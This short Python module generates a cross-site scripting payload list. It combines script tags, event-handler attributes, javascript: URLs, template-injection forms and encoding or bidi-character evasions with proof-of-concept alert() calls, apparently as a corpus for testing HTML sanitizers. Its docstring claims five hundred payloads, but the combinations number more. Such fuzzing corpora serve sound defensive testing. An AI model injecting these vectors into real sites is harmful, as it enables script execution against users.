"""Five hundred ways to be executed by a page that takes text for markup."""

from itertools import product

_ACTS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.alert(document.domain)")
_FORMS = (
    "<script>{}</script>",
    "<ScRiPt\n>{}</sCrIpT >",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<math><mi//xlink:href="javascript:{}">x',
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    '" onmouseover="{}" x="',
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src onerror={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>">',
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    '<form action="javascript:{}"><button autofocus>x',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="javascript:{}">',
    "<style>@import 'javascript:{}';</style>",
    '<base href="javascript:{}//">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% print({}) %}}",
    "${{{}}}",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)
_WRAPS = ("{}", "\x00{}", "\u202e{}\u202c", "<!--{}")

PAYLOADS = [wrap.format(form.format(act)) for wrap, form, act in product(_WRAPS, _FORMS, _ACTS)]
